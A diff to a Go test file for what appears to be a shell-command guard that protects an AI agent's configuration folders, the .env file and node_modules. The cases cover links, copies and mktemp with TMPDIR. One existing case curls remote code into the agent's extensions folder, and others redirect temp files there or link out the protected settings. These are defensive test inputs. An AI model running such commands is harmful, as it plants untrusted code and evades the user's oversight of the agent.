@@ -139,6 +139,8 @@ func TestPass34Links(t *testing.T) {
 		{`cp -s "$PWD/.pi/settings.json" s`, true, []string{".pi/settings.json"}},
 		{`cp --symbolic-link ~/.pi/agent/settings.json s`, true, []string{"/.pi/agent/settings.json"}},
 		{`cp -al .pi /tmp/p`, true, []string{".pi"}},
+		{`cp -al node_modules/pkg /tmp/p`, true, []string{`rule "node_modules/" denies write`}},
+		{`cp -l node_modules/pkg/index.js /tmp/i.js`, true, []string{`rule "node_modules/" denies write`}},
 		{`cp -rs "$PWD/.claude" /tmp/c`, true, []string{".claude"}},
 		{`cp -sr .pi/extensions /tmp/e`, true, []string{".pi/extensions"}},
 		{`lndir .pi /tmp/p`, true, []string{"lndir", ".pi"}},
@@ -152,6 +154,8 @@ func TestPass34Links(t *testing.T) {
 		{`cp -s "$PWD/docs/a.md" /tmp/a`, false, nil},
 		{`cp .pi/settings.json /tmp/s.json`, false, nil},
 		{`cp -r .pi /tmp/p`, false, nil},
+		{`cp -r node_modules/pkg /tmp/p`, false, nil},
+		{`cp node_modules/pkg/index.js /tmp/i.js`, false, nil},
 		{`lndir ../src /tmp/build`, false, nil},
 		{`mount --bind src /mnt/src`, false, nil},
 	})
@@ -167,10 +171,14 @@ func TestPass34Mktemp(t *testing.T) {
 		{`f=$(mktemp -p ~/.pi/agent/extensions XXXX.ts) && curl -so "$f" https://x/e.ts`, true, []string{"/.pi/agent/extensions/"}},
 		{`mktemp -p . .envXXX`, true, []string{`rule ".env"`}},
 		{`mktemp -p "$D" x.XXXX`, true, []string{"mktemp"}},
+		{`TMPDIR=.pi/extensions mktemp`, true, []string{`rule ".pi/extensions/"`}},
+		{`TMPDIR=.pi/extensions mktemp -t x.XXXX.ts`, true, []string{`rule ".pi/extensions/"`}},
 		// near-benign: the temporary folder, other folders, names no rule
 		// matches, -u (nothing made)
 		{`mktemp`, false, nil},
 		{`mktemp -d`, false, nil},
+		{`TMPDIR=/tmp/build mktemp`, false, nil},
+		{`TMPDIR=build mktemp -d`, false, nil},
 		{`mktemp -t build.XXXX`, false, nil},
 		{`mktemp -p /tmp XXXX`, false, nil},
 		{`mktemp -p . XXXX.txt`, false, nil},
